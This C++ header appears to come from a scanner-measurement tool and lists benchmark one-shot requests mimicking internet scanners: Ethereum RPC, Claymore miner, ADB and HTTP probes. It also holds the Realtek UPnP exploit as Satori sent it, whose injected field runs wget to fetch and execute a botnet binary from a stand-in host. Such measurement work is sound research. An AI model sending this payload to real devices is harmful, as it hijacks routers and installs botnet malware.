#pragma once
// The one-shot requests of the payload benchmarks: what scanners of the seed reports send after
// the handshake (a JSON-RPC call to Ethereum, Claymore's statistics request, an ADB CNXN with
// its banner, the Realtek UPnP exploit as Satori sent it, a plain HTTP GET).

#include <cstdint>
#include <string>
#include <utility>
#include <vector>

namespace scanscope::bench {

inline const std::vector<std::pair<uint16_t, std::string>>& one_shot_requests() {
  static const std::vector<std::pair<uint16_t, std::string>> requests = {
      {8545,
       "POST / HTTP/1.1\r\nHost: 203.0.113.9:8545\r\nContent-Type: application/json\r\n"
       "Content-Length: 64\r\n\r\n{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],"
       "\"id\":1}"},
      {3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n"},
      {5555, std::string("CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e"
                         "\x00\x00\xbc\xb1\xa7\xb1host::features=shell_v2,cmd,stat_v2",
                         59)},
      {52869,
       "POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:"
       "1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping>"
       "<NewInternalClient>`cd /var; wget http://192.0.2.1/bins/satori.mips -O nig; ./nig`"
       "</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"},
      {80, "GET / HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"},
  };
  return requests;
}

}  // namespace scanscope::bench
